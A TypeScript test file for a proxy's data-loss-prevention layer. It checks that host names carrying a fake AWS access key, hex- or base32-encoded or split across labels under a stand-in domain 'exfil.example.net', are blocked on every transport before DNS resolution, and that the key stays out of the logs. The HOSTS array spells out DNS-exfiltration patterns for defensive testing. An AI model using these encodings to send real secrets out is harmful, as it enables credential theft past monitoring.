/**
 * A key spelt in hex or base32 in a host name's labels (DNS exfiltration), or cut by a hyphen or an
 * underscore inside a label, is refused by URL DLP
 * before the name is resolved, on every transport that scans a URL: forward proxy, /fetch,
 * CONNECT, the /ws target and a redirect hop. `dns.host_overrides` stands in for the resolver:
 * each name resolves to the test's origin, so a scan that let the name through to resolution
 * would reach the origin (or an SSRF verdict on the answer); the block comes from the DLP layer,
 * before the resolution stage, and the host is not echoed in the audit log.
 */
import assert from 'node:assert/strict'
import {after, before, describe, it} from 'node:test'
import WebSocket from 'ws'
import {baseConfig, rawExchange, rawHttp, startProxy, startRoutedUpstream, until, type RunningProxy, type Upstream} from './proxy-harness.js'

// Shaped like an AWS access key id (not the documented example).
const KEY = 'AKIAZ7QW3ERT5YUI6OPL'
const HEX = '414b49415a3751573345525435595549364f504c' // hex of KEY
const HOSTS = [
  `${HEX}.exfil.example.net`,
  `${HEX.slice(0, 20)}.${HEX.slice(20)}.exfil.example.net`,
  'iffusqk2g5ivom2f.kjkdkwkvje3e6ucm.exfil.example.net', // base32 of KEY over two labels
  `${KEY.slice(0, 8).toLowerCase()}-${KEY.slice(8).toLowerCase()}.exfil.example.net`, // cut by a hyphen
  `${KEY.slice(0, 10)}_${KEY.slice(10)}.exfil.example.net`, // cut by an underscore
  `${KEY.slice(0, 9).toLowerCase()}-${KEY.slice(9, 14).toLowerCase()}_${KEY.slice(14).toLowerCase()}.exfil.example.net`, // by both
]
/** Pieces of KEY as the cut names carry them. */
const PIECES = [KEY.slice(0, 8), KEY.slice(8), KEY.slice(10), KEY.slice(9, 14)].flatMap((p) => [p, p.toLowerCase()])

describe('a key encoded in host labels never reaches a resolver', {timeout: 60_000}, () => {
  let up: Upstream
  let proxy: RunningProxy
  const reached: string[] = []

  before(async () => {
    up = await startRoutedUpstream((req, res) => {
      const m = /^\/hop\/(\d)$/.exec(req.url ?? '')
      if (m !== null) {
        res.writeHead(302, {location: `http://${HOSTS[Number(m[1])]}:${up.port}/landed`})
        res.end()
        return
      }
      reached.push(`${req.headers.host ?? ''}${req.url ?? ''}`)
      res.end('origin')
    })
    proxy = await startProxy(baseConfig([
      'ssrf:',
      '  ip_allowlist: ["127.0.0.1/32"]',
      'websocket_proxy:',
      '  enabled: true',
      'fetch_proxy:',
      '  monitoring:',
      '    max_requests_per_minute: 100000',
      'dns:',
      '  host_overrides:',
      ...HOSTS.map((h) => `    ${h}: ["127.0.0.1"]`),
    ].join('\n')))
  })
  after(async () => {
    await proxy?.stop()
    await up?.close()
  })

  it('forward proxy, /fetch, CONNECT, /ws and a redirect hop answer dlp_match from core_dlp', async () => {
    for (const [i, host] of HOSTS.entries()) {
      const target = `http://${host}:${up.port}/x`
      const fwd = await rawHttp(proxy.port, {path: target})
      assert.deepEqual([fwd.status, fwd.headers['x-pipelock-block-reason'], fwd.headers['x-pipelock-block-reason-layer'], fwd.body], [403, 'dlp_match', 'core_dlp', 'blocked: core DLP match: AWS Access ID (critical)\n'], `forward ${host}`)

      const fetched = await rawHttp(proxy.port, {path: `/fetch?url=${encodeURIComponent(target)}`})
      assert.deepEqual([fetched.status, fetched.headers['x-pipelock-block-reason'], fetched.headers['x-pipelock-block-reason-layer']], [403, 'dlp_match', 'core_dlp'], `fetch ${host}`)
      assert.equal(JSON.parse(fetched.body).url, 'http://[redacted]/[redacted]', `fetch ${host}`)

      const c = await rawExchange(proxy.port, `CONNECT ${host}:${up.port} HTTP/1.1\r\nHost: ${host}:${up.port}\r\n\r\n`, {untilHeaders: true})
      assert.match(c, /^HTTP\/1\.1 403 /, `CONNECT ${host}`)
      assert.match(c, /\r\nX-Pipelock-Block-Reason: dlp_match\r\n/i, `CONNECT ${host}`)

      const ws = await new Promise<{status: number; reason: unknown}>((resolve, reject) => {
        const s = new WebSocket(`ws://${proxy.addr}/ws?url=${encodeURIComponent(`ws://${host}:${up.port}/socket`)}`)
        s.once('open', () => {
          s.close()
          resolve({status: 101, reason: undefined})
        })
        s.once('unexpected-response', (_req, res) => {
          res.resume()
          res.on('end', () => resolve({status: res.statusCode ?? 0, reason: res.headers['x-pipelock-block-reason']}))
        })
        s.once('error', reject)
      })
      assert.deepEqual(ws, {status: 403, reason: 'dlp_match'}, `/ws ${host}`)

      const hop = await rawHttp(proxy.port, {path: `/fetch?url=${encodeURIComponent(`http://127.0.0.1:${up.port}/hop/${i}`)}`})
      assert.deepEqual([hop.status, hop.headers['x-pipelock-block-reason'], hop.headers['x-pipelock-block-reason-layer']], [403, 'redirect_scan_denied', 'core_dlp'], `redirect to ${host}`)
    }
    assert.deepEqual(reached, [], 'the origin behind the names got nothing')
    const lines = (): number => proxy.stdout().match(/"scanner":"core_dlp"/g)?.length ?? 0
    assert.ok(await until(async () => lines() === HOSTS.length * 5), proxy.stdout())
    const log = proxy.stdout()
    // Stage 14 never ran: no DNS verdict and no SSRF verdict on an answer for these names.
    assert.doesNotMatch(log, /DNS lookup for|resolves to internal IP|"display_label":"dns_/)
    // Neither the key nor its encodings are echoed (the host is shown as [redacted]).
    for (const text of [KEY, HEX, HEX.slice(0, 20), 'iffusqk2g5ivom2f', ...PIECES]) assert.ok(!log.includes(text), text)
  })
})
